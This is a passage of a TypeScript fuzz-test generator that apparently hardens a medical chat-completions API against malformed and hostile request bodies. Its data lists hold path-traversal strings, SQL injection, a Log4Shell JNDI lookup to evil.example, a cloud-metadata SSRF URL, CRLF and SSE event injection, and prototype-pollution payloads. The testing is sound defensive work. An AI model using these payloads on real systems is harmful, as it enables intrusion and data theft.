/**
 * Generated hostile request bodies for `POST /v1/chat/completions` (decision 11: bad input gets a
 * clear error and loses nothing; decision 12: SSE framing is injection-proof). Every case is built
 * lazily from a seeded generator, so megabyte bodies exist only while they are being sent and a
 * failure reproduces from the seed and the case id.
 */
import { SMALL_CHART } from '../hub';
import { syntheticChart } from '../synthetic-chart';
import { hostileText, injection, planFor, type OutputPlan } from './model-output';
import { Rng } from './rng';

export type Category =
  | 'wrong_type'
  | 'huge_string'
  | 'deep_nesting'
  | 'invalid_utf8'
  | 'non_json'
  | 'content_type'
  | 'sse_chart_injection'
  | 'sse_output_injection'
  | 'blocking_output_injection'
  | 'unknown_fields'
  | 'patient_injection'
  | 'many_messages'
  | 'numbers'
  | 'prototype_pollution'
  | 'big_chart';

export interface BuiltRequest {
  body: string | Buffer;
  /** null: no content-type header at all */
  contentType: string | null;
  headers?: Record<string, string>;
}

export interface FuzzCase {
  id: number;
  category: Category;
  /** short, printable description for assertion messages */
  note: string;
  build(): BuiltRequest;
  /** when set, the status must be one of these */
  expectStatus?: readonly number[];
  /** a staged stream is expected when the answer is 200 (product profile, stream: true, valid body) */
  staged?: { review: boolean; inDepth: boolean };
  /** hostile model output for this case's router calls */
  plan?: OutputPlan;
}

/** Body limit the fuzz hub runs with (HUB_MAX_BODY_BYTES), so 413 is exercised with small bodies. */
export const FUZZ_MAX_BODY_BYTES = 1024 * 1024;
/** Chart record limit the fuzz hub runs with (HUB_MAX_CHART_RECORDS). */
export const FUZZ_MAX_CHART_RECORDS = 6000;
/** The corpus the fuzz suite and the hostile-load benchmark send unless FUZZ_SEED names another. */
export const FUZZ_DEFAULT_SEED = 20260710;
/** Models the fake router lists for a fuzz hub. */
export const FUZZ_ROUTER_MODELS = ['gemma-4-12b', 'qwen3.5-9b'];
/** How a fuzz hub is configured (besides LLM_BASE_URL): the limits above, a deep router queue, fast heartbeats. */
export const FUZZ_HUB_ENV: Readonly<Record<string, string>> = {
  HUB_ANCHOR: '2026-03-10',
  HUB_MAX_BODY_BYTES: String(FUZZ_MAX_BODY_BYTES),
  HUB_MAX_CHART_RECORDS: String(FUZZ_MAX_CHART_RECORDS),
  ROUTER_MAX_CONCURRENCY: '4',
  ROUTER_MAX_QUEUE: '4096',
  HUB_SSE_HEARTBEAT_SECONDS: '0.1',
};

const JSON_TYPE = 'application/json';

/** Staged (product) profiles and what their plans allow on the wire. */
export const STAGED_PROFILES: Readonly<Record<string, { review: boolean; inDepth: boolean }>> = {
  'single-12b-bare': { review: false, inDepth: true },
  'single-12b-fast': { review: false, inDepth: false },
  'single-12b-checked': { review: true, inDepth: true },
  'single-12b-verify': { review: true, inDepth: true },
  'single-12b-agree': { review: true, inDepth: true },
};

/**
 * Models a case asks for. Turns on the cheap plans (legs, fast, bare, answer-only) dominate so two
 * thousand bodies stay fast; the checked plans (4–6 router calls each) come up one time in ten.
 */
const CHEAP_MODELS = [
  'single-12b-fast',
  'single-12b-fast',
  'single-12b-bare',
  'eval-12b-answer-only',
  'eval-12b-temporal-enforce',
  'answer:gemma-4-12b',
  'answer:gemma-4-12b~warn~temp0',
  'answer:gemma-4-12b@synthesis-answer~enforce',
  'answer-review:gemma-4-12b',
  'answer-review:qwen3.5-9b~temp0.7',
  'indepth-only:gemma-4-12b@synthesis-indepth',
  'catalyst-query-e4b-qwen14b',
];
const CHECKED_MODELS = ['single-12b-checked', 'single-12b-verify', 'single-12b-agree'];

function pickModel(rng: Rng): string {
  return rng.bool(0.96) ? rng.pick(CHEAP_MODELS) : rng.pick(CHECKED_MODELS);
}

/** Staged profiles for the SSE categories: mostly bare and fast, every checked plan represented. */
function pickStagedProfile(rng: Rng): string {
  const r = rng.next();
  if (r < 0.42) return 'single-12b-bare';
  if (r < 0.8) return 'single-12b-fast';
  if (r < 0.9) return 'single-12b-checked';
  if (r < 0.95) return 'single-12b-verify';
  return 'single-12b-agree';
}

const BAD_MODELS: readonly unknown[] = [
  null, 0, 1.5, true, false, [], ['single-12b-bare'], {}, { id: 'single-12b-bare' }, '', ' ', 'x'.repeat(513), '\u0000', 'single-12b-bare\n',
  'SINGLE-12B-BARE', ' single-12b-bare', '../../etc/passwd', '..%2f..%2fetc%2fpasswd', 'answer:', 'answer:@', 'answer:@x', 'answer:gemma-4-12b@',
  'answer:gemma-4-12b~~', 'answer:gemma-4-12b~', 'answer:gemma-4-12b~temp-1', 'answer:gemma-4-12b~tempNaN', 'answer:gemma-4-12b~temp1e309',
  'answer:gemma-4-12b~maybe', 'answer:gemma-4-12b~warn~off', 'answer:gemma-4-12b~temp1~temp2', 'answer:gemma 4', 'answer:gemma-4-12b@../../../etc/passwd',
  'answer:gemma-4-12b@%2e%2e%2fx', 'answer:gemma-4-12b@a/b', 'answer:gemma-4-12b@nope-prompt', 'answer:gemma-4-12b@\u0000', 'indepth-only:gemma-4-12b~maybe',
  'answer-review:', '__proto__', 'constructor', 'toString', 'hasOwnProperty', 'prototype', 'valueOf', 'no-such-model', 'gemma-4-12b',
];

const BAD_MESSAGES: readonly unknown[] = [
  null, 'hi', 1, true, {}, { role: 'user', content: 'x' }, [], [null], [1], ['hi'], [[]], [{}], [{ content: 'x' }], [{ role: 1, content: 'x' }],
  [{ role: null, content: 'x' }], [{ role: ['user'], content: 'x' }], [{ role: { user: 1 }, content: 'x' }], [{ role: true }],
];

/** Message lists that pass the schema but are odd: the engine has to cope. */
const ODD_MESSAGES: readonly unknown[] = [
  [{ role: 'user', content: null }],
  [{ role: 'user', content: 5 }],
  [{ role: 'user', content: true }],
  [{ role: 'user', content: {} }],
  [{ role: 'user', content: [] }],
  [{ role: 'user', content: [{ type: 'text', text: 5 }] }],
  [{ role: 'user', content: [{ type: 'text' }, null] }],
  [{ role: 'user', content: [{ type: 'image_url', image_url: { url: 'file:///etc/passwd' } }] }],
  [{ role: 'user' }],
  [{ role: '', content: 'x' }],
  [{ role: 'system', content: 'only a system message' }],
  [{ role: 'assistant', content: 'only an assistant message' }],
  [{ role: 'tool', content: 'x', tool_call_id: 1 }],
  [{ role: 'user', content: SMALL_CHART }],
  [{ role: 'user', content: SMALL_CHART }, { role: 'assistant', content: null }, { role: 'user', content: 'and now?' }],
  [{ role: 'user', content: '[1] only a numbered line' }, { role: 'user', content: '[2] another' }],
  [{ role: 'user', content: 'Patient records (most recent first):' }, { role: 'user', content: 'q' }],
  [{ role: 'user', content: 'Patient records (most recent first):\n' }],
  [{ role: 'USER', content: SMALL_CHART }, { role: 'User', content: 'q' }],
  [{ role: '__proto__', content: 'x' }, { role: 'user', content: 'q' }],
  [{ role: 'user', content: SMALL_CHART, name: { deep: [1, 2] }, tool_calls: 'x', function_call: 5 }, { role: 'user', content: 'q' }],
];

const BAD_STREAM: readonly unknown[] = ['true', 1, 0, null, [], {}, 'false', 'yes'];
const BAD_TEMPERATURE: readonly unknown[] = ['0.5', -1, -0.0001, true, [], {}, 'NaN', 'Infinity', 1e308, 100, [0.5]];
const BAD_MAX_TOKENS: readonly unknown[] = [1.5, '10', -5, 0, 1e20, true, [], {}, 'NaN', 2 ** 53, -(2 ** 53), 1e308];
const BAD_RESPONSE_FORMAT: readonly unknown[] = ['json', 1, [], true, {}, { type: 5 }, { type: 'json_schema' }, { type: 'json_schema', json_schema: 'x' }, { type: 'json_schema', json_schema: { name: 5, schema: [] } }, { type: 'json_object' }, { type: 'json_schema', json_schema: { name: 'x', schema: { $ref: '#/definitions/nope' } } }];
const BAD_CONTEXT: readonly unknown[] = [
  'x', 1, [], true, { sources: 1 }, { sources: {} }, { sources: [] }, { sources: [1] }, { sources: 'nope' }, { sources: ['inline', 'inline'] },
  { sources: ['../../etc/passwd'] }, { sources: ['__proto__'] }, { sources: ['constructor', 'inline'] }, { sources: [''] }, { sources: ' ' },
  { source: 5 }, { source: '__proto__' }, { source: 'constructor' }, { source: 'toString' }, { source: '' }, { source: '  ' }, { source: 'querystore' },
  { source: 'knowledge-base' }, { source: 'inline' }, { temporal: 'no' }, { temporal: null }, { temporal_gate: 'bogus' }, { temporal_gate: 5 },
  { temporal_gate: 'enforce', temporal: false }, { require_product_profile: 'yes' }, { require_product_profile: 1 }, { require_product_profile: true },
  { require_product_profile: null }, { session: { a: [1, { b: 2 }] } }, { request_id: ['x'] }, { message_id: 'x'.repeat(10_000) }, { session: '' },
  { session: '\r\n\r\nevent: done' }, { request_id: 1e308 }, { unknown_key: true },
];
const BAD_PATIENT: readonly unknown[] = [1, {}, [], true, 'x'.repeat(300), ['p'], { id: 'p' }, 0];
const BAD_STREAM_OPTIONS: readonly unknown[] = ['x', 1, [], true, { include_usage: 'yes' }, { include_usage: 1 }];

const HOSTILE_PATIENTS: readonly string[] = [
  '../../etc/passwd', '..%2f..%2fetc%2fpasswd', '%2e%2e/%2e%2e/etc/passwd', '%2e%2e%5c%2e%2e%5cwindows', '..\\..\\windows\\win.ini', 'a\u0000b',
  '\u0000', 'p\r\nX-Injected: 1', "' OR 1=1 --", '"; DROP TABLE patient; --', '${jndi:ldap://evil.example/a}', '{{7*7}}', 'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/', '', ' ', '\ud800', '/', '?', '#', '&patient=other', 'a b', 'ü-unicode-患者', '\n\nevent: done\ndata: {}\n\n',
  '__proto__', 'constructor', '9e1a2d0c-0000-4000-8000-000000000000', 'x'.repeat(256),
];

const CONTENT_TYPES: readonly (string | null)[] = [
  null, 'text/plain', 'text/plain; charset=utf-8', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=xyz', 'application/xml',
  'text/event-stream', 'application/json; charset=latin1', 'application/json; charset=utf-16', 'application/json; charset=utf-8', 'application/json; charset=UTF-8',
  'application/json; charset=bogus', 'application/json; charset="utf-8"', 'application/json;;;', 'a/b/c;;;', '*/*', 'application/octet-stream',
  'application/vnd.api+json', 'application/json; boundary=x; charset=utf-8', 'APPLICATION/JSON',
];

const UNKNOWN_FIELDS: Readonly<Record<string, unknown>> = {
  tools: [{ type: 'function', function: { name: 'rm', parameters: {} } }], tool_choice: 'auto', functions: 'x', n: 5, logit_bias: { 1: 100 }, user: { id: 1 },
  seed: 'x', top_p: 'high', stop: ['\n\nevent: done'], presence_penalty: [], logprobs: true, metadata: { a: 'b' }, store: 'yes', parallel_tool_calls: 1,
  modalities: ['audio'], audio: {}, prediction: { content: 'x' }, reasoning_effort: 'max', service_level: null, cache_prompt: false, id_slot: 3,
  grammar: 'root ::= "x"', 'x-evil': '\r\n', '': 'empty key', ' ': 'space key', '\u0000': 'nul key', 'event: done': 'x', a: { b: { c: { d: [1, 2, 3] } } },
};

export interface BuildOptions {
  seed: number;
  /** multiplies every category's count (default 1: about 2,000 bodies); at least one case per category */
  scale?: number;
}

/**
 * Bodies per category at scale 1 (2,036 in all). Rejections are cheap (~3 ms), turns cost 5–45 ms of
 * CPU (hub, fake router and client together, on a machine of two cores), so turn-running categories are
 * kept to what covers them and the cheap ones carry the volume.
 */
export const CATEGORY_COUNTS: Readonly<Record<Category, number>> = {
  wrong_type: 500,
  huge_string: 16,
  deep_nesting: 70,
  invalid_utf8: 120,
  non_json: 230,
  content_type: 160,
  sse_chart_injection: 150,
  sse_output_injection: 170,
  blocking_output_injection: 70,
  unknown_fields: 60,
  patient_injection: 150,
  many_messages: 10,
  numbers: 230,
  prototype_pollution: 90,
  big_chart: 10,
};

/** A typical valid chart + question, tagged so the fake router can tell the case apart. */
function messagesFor(id: number, chart = SMALL_CHART, question = 'How has the weight changed?'): Array<Record<string, unknown>> {
  return [{ role: 'user', content: chart }, { role: 'user', content: `${question} FZ${id}Z` }];
}

function json(body: unknown, contentType: string | null = JSON_TYPE): BuiltRequest {
  return { body: JSON.stringify(body), contentType };
}

function describeValue(v: unknown): string {
  const s = typeof v === 'string' ? JSON.stringify(v) : JSON.stringify(v) ?? String(v);
  return s.length > 60 ? `${s.slice(0, 57)}…` : s;
}

/** A JSON fragment nested `depth` levels deep, as text (JSON.stringify cannot even produce it). */
function deepArray(depth: number, leaf = '1'): string {
  return '['.repeat(depth) + leaf + ']'.repeat(depth);
}

function deepObject(depth: number, key = 'a'): string {
  return `{"${key}":`.repeat(depth) + '1' + '}'.repeat(depth);
}

/** Record numbers as a chart may carry them: in order, repeated, or odd (zero, padded, beyond 2^53, not numbers at all). */
function recordNumber(rng: Rng, i: number, mode: 'seq' | 'dup' | 'odd'): string {
  if (mode === 'seq') return String(i);
  if (mode === 'dup') return String(rng.int(1, Math.max(1, Math.ceil(i / 2))));
  return rng.pick([String(i), '0', `00${i}`, '99999999999999999999', '9007199254740993', '-1', '1e3', ' 2', `${i}.5`, '']);
}

function hostileChart(rng: Rng, records: number): string {
  const mode = rng.pick(['seq', 'seq', 'dup', 'odd'] as const);
  const lines = ['Patient records (most recent first):', `Patient: ${hostileText(rng, '41-year-old Male')}`];
  for (let i = 1; i <= records; i++) {
    const date = rng.bool(0.9) ? `2026-0${rng.int(1, 3)}-${String(rng.int(10, 28))}` : rng.pick(['2026-02-30', '0000-00-00', '9999-99-99', '2026-13-01']);
    const body = rng.pick([
      `Finding — Weight (kg): ${rng.int(50, 90)} kg`,
      `Allergy: Penicillin. Reaction: ${hostileText(rng, 'rash')}`,
      `Encounter: ${hostileText(rng, 'Adult Visit')}`,
      `Note: ${hostileText(rng, 'follow up')}`,
      `Drug order: ${hostileText(rng, 'Lisinopril 10 mg')}`,
    ]);
    const sep = rng.pick(['\n', '\n', '\r\n', '\n\n']);
    lines.push(`[${recordNumber(rng, i, mode)}] ${rng.bool(0.8) ? `(${date}) ` : ''}${body}${sep === '\n' ? '' : sep.slice(0, -1)}`);
  }
  return lines.join(rng.pick(['\n', '\r\n']));
}

/** Raw JSON text of an otherwise valid body with one field's value given verbatim. */
function rawWithField(id: number, model: string, field: string, rawValue: string, stream: boolean): string {
  const base: Record<string, unknown> = { model, messages: messagesFor(id), stream };
  delete base[field];
  const text = JSON.stringify(base);
  return `${text.slice(0, -1)},${JSON.stringify(field)}:${rawValue}}`;
}

/** Invalid UTF-8 byte sequences (lone bytes, overlongs, encoded surrogates, truncations, > U+10FFFF). */
const INVALID_UTF8: readonly number[][] = [
  [0xff], [0xfe, 0xff], [0xc3, 0x28], [0x80], [0xbf, 0x80], [0xc0, 0xaf], [0xe0, 0x80, 0xaf], [0xed, 0xa0, 0x80], [0xed, 0xbf, 0xbf],
  [0xf0, 0x9f, 0x98], [0xf4, 0x90, 0x80, 0x80], [0xf8, 0x88, 0x80, 0x80, 0x80], [0xe2, 0x80], [0xc2], [0x0d, 0x0a, 0xff, 0x0d],
];

export function buildCases(opts: BuildOptions): { cases: FuzzCase[]; plans: Map<number, OutputPlan> } {
  const root = new Rng(opts.seed);
  const cases: FuzzCase[] = [];
  const plans = new Map<number, OutputPlan>();
  let id = 0;
  for (const [category, count] of Object.entries(CATEGORY_COUNTS) as Array<[Category, number]>) {
    const n = Math.max(1, Math.round(count * (opts.scale ?? 1)));
    for (let k = 0; k < n; k++) {
      const rng = root.fork(id);
      const c = makeCase(category, id, k, rng);
      if (c.plan) plans.set(id, c.plan);
      cases.push(c);
      id++;
    }
  }
  // Interleave categories so each batch mixes cheap rejections with expensive turns.
  const order = new Rng(opts.seed ^ 0xa5a5a5a5);
  for (let i = cases.length - 1; i > 0; i--) {
    const j = order.int(0, i);
    [cases[i], cases[j]] = [cases[j], cases[i]];
  }
  return { cases, plans };
}

function makeCase(category: Category, id: number, k: number, rng: Rng): FuzzCase {
  const model = pickModel(rng);
  const stream = rng.bool();
  const base = { id, category };
  switch (category) {
    case 'wrong_type': {
      const fields: Array<[string, readonly unknown[]]> = [
        ['model', BAD_MODELS], ['messages', BAD_MESSAGES], ['messages', ODD_MESSAGES], ['stream', BAD_STREAM], ['temperature', BAD_TEMPERATURE],
        ['max_tokens', BAD_MAX_TOKENS], ['response_format', BAD_RESPONSE_FORMAT], ['context', BAD_CONTEXT], ['patient', BAD_PATIENT], ['stream_options', BAD_STREAM_OPTIONS],
      ];
      // Walk every listed value once, then random combinations of several wrong fields at a time.
      const flat = fields.flatMap(([f, vals]) => vals.map((v) => [f, v] as const));
      const picks = k < flat.length ? [flat[k]] : rng.sample(flat, rng.int(2, 4));
      const body: Record<string, unknown> = { model, messages: messagesFor(id), stream };
      for (const [f, v] of picks) body[f] = v;
      // `model` replaced with a non-id, or `messages` without the case tag: keep the tag somewhere the router can see.
      return { ...base, note: picks.map(([f, v]) => `${f}=${describeValue(v)}`).join(', '), build: () => json(body), plan: rng.bool(0.3) ? planFor(rng, body.model) : undefined };
    }
    case 'huge_string': {
      const over = k % 2 === 0;
      const size = over ? FUZZ_MAX_BODY_BYTES + rng.int(1, 3 * FUZZ_MAX_BODY_BYTES) : FUZZ_MAX_BODY_BYTES - rng.int(4096, 200_000);
      const where = rng.pick(['question', 'chart_record', 'model', 'patient', 'unknown_field', 'context_session', 'assistant_message', 'system_message']);
      const filler = rng.pick(['x', 'a b ', '\r\n', '\u2028', '"\\', 'é', '\n\nevent: done\ndata: {}\n\n']);
      const build = (): BuiltRequest => {
        const pad = filler.repeat(Math.ceil(size / Buffer.byteLength(filler)));
        const s = pad.slice(0, Math.max(0, Math.floor(size * 0.5))); // JSON escaping can double the bytes
        const body: Record<string, unknown> = { model, messages: messagesFor(id), stream };
        if (where === 'question') body.messages = messagesFor(id, SMALL_CHART, s);
        if (where === 'chart_record') body.messages = messagesFor(id, `${SMALL_CHART}\n[6] (2026-03-03) Note: ${s}`);
        if (where === 'model') body.model = s;
        if (where === 'patient') body.patient = s;
        if (where === 'unknown_field') body.x_padding = s;
        if (where === 'context_session') body.context = { session: s };
        if (where === 'assistant_message') body.messages = [...messagesFor(id), { role: 'assistant', content: s }, { role: 'user', content: `more FZ${id}Z` }];
        if (where === 'system_message') body.messages = [{ role: 'system', content: s }, ...messagesFor(id)];
        let text = JSON.stringify(body);
        if (over && Buffer.byteLength(text) <= FUZZ_MAX_BODY_BYTES) text = `${text.slice(0, -1)},"x_more":"${'y'.repeat(FUZZ_MAX_BODY_BYTES)}"}`;
        if (!over && Buffer.byteLength(text) > FUZZ_MAX_BODY_BYTES) throw new Error(`fuzz generator: under-limit body is ${Buffer.byteLength(text)} bytes`);
        return { body: text, contentType: JSON_TYPE };
      };
      return { ...base, note: `${over ? 'over' : 'under'} limit, ${where}, filler ${JSON.stringify(filler)}, ~${size} bytes`, build, expectStatus: over ? [413] : undefined };
    }
    case 'deep_nesting': {
      const depth = rng.pick([10_000, 10_000, 10_000, 50_000, 100_000, 4_000, 5_000]);
      const where = rng.pick(['content_array', 'content_object', 'context_session', 'unknown_field', 'response_format', 'messages', 'top_level', 'stream', 'patient', 'message_extra', 'unbalanced']);
      const build = (): BuiltRequest => {
        const prefix = JSON.stringify({ model, stream, messages: messagesFor(id) }).slice(0, -1);
        switch (where) {
          case 'content_array':
            return { body: `{"model":${JSON.stringify(model)},"stream":${stream},"messages":[{"role":"user","content":${JSON.stringify(SMALL_CHART)}},{"role":"user","content":${deepArray(depth, `"FZ${id}Z"`)}}]}`, contentType: JSON_TYPE };
          case 'content_object':
            return { body: `{"model":${JSON.stringify(model)},"stream":${stream},"messages":[{"role":"user","content":${JSON.stringify(SMALL_CHART)}},{"role":"user","content":${deepObject(depth)}},{"role":"user","content":"q FZ${id}Z"}]}`, contentType: JSON_TYPE };
          case 'context_session':
            return { body: `${prefix},"context":{"session":${deepArray(depth)}}}`, contentType: JSON_TYPE };
          case 'unknown_field':
            return { body: `${prefix},"nested":${deepObject(depth)}}`, contentType: JSON_TYPE };
          case 'response_format':
            return { body: `${prefix},"response_format":{"type":"json_schema","json_schema":{"name":"x","schema":${deepObject(depth, 'properties')}}}}`, contentType: JSON_TYPE };
          case 'messages':
            return { body: `{"model":${JSON.stringify(model)},"messages":${deepArray(depth)}}`, contentType: JSON_TYPE };
          case 'top_level':
            return { body: deepArray(depth), contentType: JSON_TYPE };
          case 'stream':
            return { body: `${prefix.replace(/"stream":(true|false),/, '')},"stream":${deepArray(depth)}}`, contentType: JSON_TYPE };
          case 'patient':
            return { body: `${prefix},"patient":${deepObject(depth)}}`, contentType: JSON_TYPE };
          case 'message_extra':
            return { body: `{"model":${JSON.stringify(model)},"stream":${stream},"messages":[{"role":"user","content":${JSON.stringify(SMALL_CHART)},"extra":${deepArray(depth)}},{"role":"user","content":"q FZ${id}Z","name":${deepObject(depth)}}]}`, contentType: JSON_TYPE };
          default:
            return { body: `${prefix},"nested":${'['.repeat(depth)}`, contentType: JSON_TYPE };
        }
      };
      // Every depth here is far beyond MAX_BODY_DEPTH: a clear 400 (or 413 when the nesting alone is over the size limit).
      return { ...base, note: `${depth} levels in ${where} (model ${model})`, build, expectStatus: [400, 413] };
    }
    case 'invalid_utf8': {
      const bad = rng.pick(INVALID_UTF8);
      const where = rng.pick(['question', 'chart', 'model', 'role', 'key', 'outside_string', 'patient']);
      const build = (): BuiltRequest => {
        const marker = '@@BAD@@';
        let body: Record<string, unknown> = { model, stream, messages: messagesFor(id, `${SMALL_CHART}\n[6] (2026-03-03) Note: ${where === 'chart' ? marker : 'x'}`, where === 'question' ? `weight ${marker}?` : 'weight?') };
        if (where === 'model') body.model = `single-12b-bare${marker}`;
        if (where === 'role') body.messages = [{ role: `user${marker}`, content: 'x' }, ...messagesFor(id)];
        if (where === 'patient') body.patient = `p${marker}`;
        if (where === 'key') body = { ...body, [`k${marker}`]: 1 };
        let text = JSON.stringify(body);
        if (where === 'outside_string') text = `${text.slice(0, -1)},${marker}}`;
        const [before, after] = text.split(marker);
        return { body: Buffer.concat([Buffer.from(before, 'utf8'), Buffer.from(bad), Buffer.from(after ?? '', 'utf8')]), contentType: rng.pick([JSON_TYPE, 'application/json; charset=utf-8', null]) };
      };
      return { ...base, note: `bytes [${bad.map((b) => b.toString(16)).join(' ')}] in ${where} (model ${model})`, build, expectStatus: where === 'outside_string' ? [400] : undefined };
    }
    case 'non_json': {
      const valid = JSON.stringify({ model, messages: messagesFor(id), stream });
      const bodies: Array<string | Buffer> = [
        '', ' ', '\n', '{', '}', '[', ']', 'null', 'true', 'false', '1', '-0', '1e309', '"x"', '"{\\"model\\":1}"', '{"model":', '{"model"', '{model: "x"}', "{'model':'x'}",
        'model=single-12b-bare&messages=x', '<xml><model>x</model></xml>', 'NaN', 'Infinity', 'undefined', '{"a":1}{"b":2}', `${valid}garbage`, `${valid},`, `/* c */${valid}`,
        `${valid.slice(0, -1)},}`, '{"model":"x",}', '{"model":"x" "messages":[]}', '{"\\uZZZZ":1}', '{"a":"\\x41"}', '{"a":"\u0001"}', `\ufeff${valid}`, `${valid}\u0000`,
        '\u0000\u0001\u0002', Buffer.from([0x1f, 0x8b, 0x08, 0x00]), Buffer.from([0xff, 0xfe, 0x7b, 0x00]), '{"a":01}', '{"a":.5}', '{"a":+1}', '{"a":0x10}', "{'a':1}",
        '[[[[[[[[[[', '{"a":[1,2,}', '{"a":tru}', '{"a":nul}', '{"a":"unterminated', `${valid}\n\n${valid}`,
      ];
      const i = k < bodies.length ? k : rng.int(0, bodies.length - 1);
      let body = bodies[i];
      if (k >= bodies.length && typeof body === 'string' && rng.bool()) {
        // Random bytes, or a valid body truncated at a random point.
        body = rng.bool() ? Buffer.from(Array.from({ length: rng.int(1, 300) }, () => rng.int(0, 255))) : valid.slice(0, rng.int(1, valid.length - 1));
      }
      const printable = Buffer.isBuffer(body) ? `bytes(${body.length})` : describeValue(body);
      // '[', '[]' and top-level arrays parse as JSON (strict mode allows arrays) and fail validation: 400 either way.
      // A UTF-8 BOM before valid JSON may be ignored (RFC 8259 §8.1), so that body alone may succeed.
      const bom = typeof body === 'string' && body.startsWith('\ufeff{');
      return { ...base, note: `non-JSON body ${printable}`, build: () => ({ body, contentType: JSON_TYPE }), expectStatus: bom ? undefined : [400] };
    }
    case 'content_type': {
      const ct = rng.pick(CONTENT_TYPES);
      const encoding = rng.pick([undefined, undefined, undefined, 'gzip', 'deflate', 'br', 'identity', 'x-evil', 'gzip, gzip']);
      const asForm = rng.bool(0.2);
      const build = (): BuiltRequest => {
        const valid = JSON.stringify({ model, messages: messagesFor(id), stream });
        const body = asForm ? `model=${encodeURIComponent(model)}&messages=hi` : valid;
        return { body: Buffer.from(body, 'utf8'), contentType: ct, headers: encoding ? { 'content-encoding': encoding } : undefined };
      };
      return { ...base, note: `content-type ${JSON.stringify(ct)}${encoding ? `, content-encoding ${encoding}` : ''}${asForm ? ', form body' : ''} (model ${model})`, build };
    }
    case 'sse_chart_injection':
    case 'sse_output_injection': {
      const profile = pickStagedProfile(rng);
      const chartInjection = category === 'sse_chart_injection';
      const plan = chartInjection && rng.bool(0.7) ? { ...planFor(rng, profile), answer: 'json' as const, claims: 'json' as const } : planFor(rng, profile);
      const records = rng.int(2, 12);
      const chart = chartInjection ? hostileChart(rng, records) : SMALL_CHART;
      const question = chartInjection ? hostileText(rng, 'How has the weight changed?') : 'How has the weight changed?';
      const history = rng.bool(0.2) ? [{ role: 'assistant', content: hostileText(rng, 'earlier answer') }, { role: 'user', content: hostileText(rng, 'follow-up') }] : [];
      const body = { model: profile, stream: true, messages: [...(rng.bool(0.3) ? [{ role: 'system', content: hostileText(rng, 'system') }] : []), { role: 'user', content: chart }, ...history, { role: 'user', content: `${question} FZ${id}Z` }], context: rng.bool(0.3) ? { require_product_profile: true, session: injection(rng) } : undefined };
      return { ...base, note: `${profile} ${chartInjection ? `hostile chart (${records} records)` : 'plain chart'}, output ${JSON.stringify(plan)}`, build: () => json(body), staged: STAGED_PROFILES[profile], plan, expectStatus: [200] };
    }
    case 'blocking_output_injection': {
      const m = pickModel(rng);
      const plan = planFor(rng, m);
      const streamIt = rng.bool(0.4);
      const body = { model: m, stream: streamIt && !(m in STAGED_PROFILES), messages: [{ role: 'user', content: rng.bool() ? hostileChart(rng, rng.int(2, 8)) : SMALL_CHART }, { role: 'assistant', content: hostileText(rng) }, { role: 'user', content: `${hostileText(rng, 'weight?')} FZ${id}Z` }] };
      // A caller-orchestrated (Catalyst) profile is not answered through chat completions: a clear 400.
      const expectStatus = m === 'catalyst-query-e4b-qwen14b' ? [400] : [200];
      return { ...base, note: `${m} ${body.stream ? 'non-staged stream' : 'blocking'}, output ${JSON.stringify(plan)}`, build: () => json(body), plan, expectStatus };
    }
    case 'unknown_fields': {
      const keys = rng.sample(Object.keys(UNKNOWN_FIELDS), rng.int(1, 8));
      const body: Record<string, unknown> = { model, messages: messagesFor(id), stream };
      for (const key of keys) body[key] = UNKNOWN_FIELDS[key];
      if (rng.bool(0.3)) body.messages = (body.messages as Array<Record<string, unknown>>).map((m) => ({ ...m, [rng.pick(keys)]: UNKNOWN_FIELDS[rng.pick(keys)] }));
      return { ...base, note: `unknown fields ${keys.map((x) => JSON.stringify(x)).join(',')} (model ${model})`, build: () => json(body) };
    }
    case 'patient_injection': {
      const patient = k < HOSTILE_PATIENTS.length ? HOSTILE_PATIENTS[k] : rng.pick(HOSTILE_PATIENTS);
      const withChart = rng.bool(0.6);
      const context = rng.pick([undefined, undefined, { source: 'inline' }, { sources: ['querystore'] }, { source: patient }, { sources: [patient, 'inline'] }]);
      const body: Record<string, unknown> = { model, stream, patient, messages: withChart ? messagesFor(id) : [{ role: 'user', content: `What is the weight? FZ${id}Z` }] };
      if (context) body.context = context;
      return { ...base, note: `patient ${describeValue(patient)}, ${withChart ? 'inline chart' : 'no chart'}, context ${describeValue(context)} (model ${model})`, build: () => json(body) };
    }
    case 'many_messages': {
      // Many messages, up to thousands of completed turns (history fitting bisects: O(log n) counts).
      const count = rng.pick([2_000, 10_000, 30_000, 45_000, 200_000]);
      const answered = rng.pick([0, 0, 5, 40, 200]);
      const build = (): BuiltRequest => {
        const msgs: unknown[] = [{ role: 'user', content: SMALL_CHART }];
        for (let i = 0; i < count; i++) {
          const assistant = i < 2 * answered && i % 2 === 1;
          msgs.push(assistant ? { role: 'assistant', content: `a [1] ${i}` } : { role: rng.pick(['user', 'user', 'system', 'tool']), content: i % 97 === 0 ? injection(rng) : 'q' });
        }
        msgs.push({ role: 'user', content: `last FZ${id}Z` });
        return json({ model: rng.pick(['single-12b-bare', 'single-12b-fast', 'eval-12b-answer-only', 'answer:gemma-4-12b']), stream, messages: msgs });
      };
      return { ...base, note: `${count} messages, ${answered} answered turns`, build, expectStatus: count * 12 > FUZZ_MAX_BODY_BYTES ? [413] : undefined };
    }
    case 'numbers': {
      const field = rng.pick(['temperature', 'max_tokens', 'stream', 'patient', 'model', 'messages', 'context']);
      const raw = rng.pick(['1e309', '-1e309', '-0', '-0.0', '0e-400', '1e-400', '9007199254740993', '1e20', '-1', '0.5e1', '123456789012345678901234567890', '4.9e-324', '1.7976931348623157e308', '2', '0', '100', '"NaN"', '"Infinity"', '"-0"', '"1e309"']);
      // Clear-cut refusals: a non-finite number anywhere, a string for a number or boolean, a number for a string, array or object.
      const refused = raw.endsWith('e309') || (raw.startsWith('"') ? ['temperature', 'max_tokens', 'stream', 'messages', 'context'].includes(field) : ['stream', 'patient', 'model', 'messages', 'context'].includes(field));
      return { ...base, note: `${field}: ${raw} (model ${model})`, build: () => ({ body: rawWithField(id, model, field, raw, stream), contentType: JSON_TYPE }), expectStatus: refused ? [400] : undefined };
    }
    case 'prototype_pollution': {
      const payloads = [
        '"__proto__":{"polluted":"top","model":"single-12b-bare"}',
        '"constructor":{"prototype":{"polluted":"ctor"}}',
        '"prototype":{"polluted":"proto"}',
        '"__proto__":null',
        '"__proto__":[1,2]',
        '"hasOwnProperty":1',
        '"toString":"x"',
        '"valueOf":{}',
        '"context":{"__proto__":{"require_product_profile":true,"sources":["x"]},"constructor":{"prototype":{"polluted":"ctx"}}}',
        '"context":{"sources":{"__proto__":["inline"]}}',
        '"response_format":{"__proto__":{"type":"json_schema"}}',
